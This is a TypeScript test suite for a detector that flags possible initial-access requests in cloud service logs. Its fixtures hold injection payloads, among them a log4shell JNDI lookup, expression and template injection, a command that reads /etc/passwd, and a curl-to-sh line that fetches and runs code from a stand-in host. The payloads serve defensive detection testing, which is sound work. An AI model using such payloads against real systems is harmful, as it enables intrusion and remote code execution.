import { requestHighlights } from '../../src/evidence/request-highlights';
import type { LogEntry } from '../../src/logs/port';
import { section } from '../support/sections';

const detection = '2025-03-06T17:40:12.003Z';
const request = (requestUrl: string, timestamp = '2025-03-06T17:39:58.412Z', extra: Record<string, unknown> = {}): LogEntry => ({
  timestamp,
  insertId: `req-${requestUrl.length}-${timestamp}`,
  logName: 'projects/p/logs/run.googleapis.com%2Frequests',
  httpRequest: { requestMethod: 'GET', requestUrl, status: 500, remoteIp: '198.51.100.23', ...extra },
});
const line = (textPayload: string, timestamp = '2025-03-06T17:39:00Z'): LogEntry => ({ timestamp, insertId: `line-${textPayload.length}`, logName: 'projects/p/logs/stdout', textPayload });
const found = (entries: LogEntry[], name: 'run_logs' | 'pod_logs' = 'run_logs') => requestHighlights([section(name, entries)], detection);

describe('possible initial access', () => {
  it.each([
    ['expression injection, percent-encoded', 'https://svc.run.app/render?template=%24%7BT(java.lang.Runtime).getRuntime()%7D', 'expression injection'],
    ['log4shell', 'https://svc.run.app/?q=${jndi:ldap://198.51.100.23/a}', 'expression injection'],
    ['template injection', 'https://svc.run.app/hello?name={{7*7}}', 'expression injection'],
    ['command substitution, double-encoded', 'https://svc.run.app/ping?host=%2524%2528id%2529', 'command substitution'],
    ['backticks', 'https://svc.run.app/ping?host=`id`', 'command substitution'],
    ['separator then a command', 'https://svc.run.app/ping?host=127.0.0.1;cat /etc/passwd', 'shell command after a separator'],
    ['pipe then a shell, encoded', 'https://svc.run.app/ping?host=x%7Csh', 'shell command after a separator'],
    ['cmd parameter', 'https://svc.run.app/debug?cmd=ls', 'cmd parameter'],
    ['shell path', 'https://svc.run.app/run?c=/bin/sh', 'shell path'],
  ])('%s', (_name, url, shape) => {
    const [highlight] = found([request(url)]);
    expect(highlight).toMatchObject({ kind: 'possible_initial_access', offset: '-14s', section: 'run_logs' });
    expect(highlight!.summary).toMatch(/^possible initial access: request GET /);
    expect(highlight!.summary).toContain(`(${shape})`);
    expect(highlight!.detail).toMatch(/^from 198\.51\.100\.23 · matched: /);
  });

  it('an access-log line in the pod logs counts too', () => {
    const [highlight] = found([line('10.8.0.1 - - [06/Mar/2025:17:39:00 +0000] "GET /cgi-bin/status?cmd=$(curl -s http://192.0.2.77/x|sh) HTTP/1.1" 200 12')], 'pod_logs');
    expect(highlight).toMatchObject({ kind: 'possible_initial_access', section: 'pod_logs' });
  });

  it.each([
    ['an ordinary request', [request('https://svc.run.app/render?invoice=42&format=pdf')]],
    ['a payload long before detection', [request('https://svc.run.app/?q=${jndi:x}', '2025-03-06T16:00:00Z')]],
    ['a payload well after detection', [request('https://svc.run.app/?q=${jndi:x}', '2025-03-06T17:45:00Z')]],
    ['a log line that is no request, with a template string in it', [line('rendered ${total} for order 42')]],
    ['an audit section is not read', []],
  ])('nothing for %s', (_name, entries) => {
    expect(found(entries)).toEqual([]);
  });

  it('keeps the three nearest detection', () => {
    const times = ['17:30:00', '17:39:00', '17:40:10', '17:35:00', '17:10:00'].map((t) => `2025-03-06T${t}Z`);
    expect(found(times.map((t) => request('https://svc.run.app/?cmd=id', t))).map((h) => h.at)).toEqual(['2025-03-06T17:40:10Z', '2025-03-06T17:39:00Z', '2025-03-06T17:35:00Z']);
  });
});
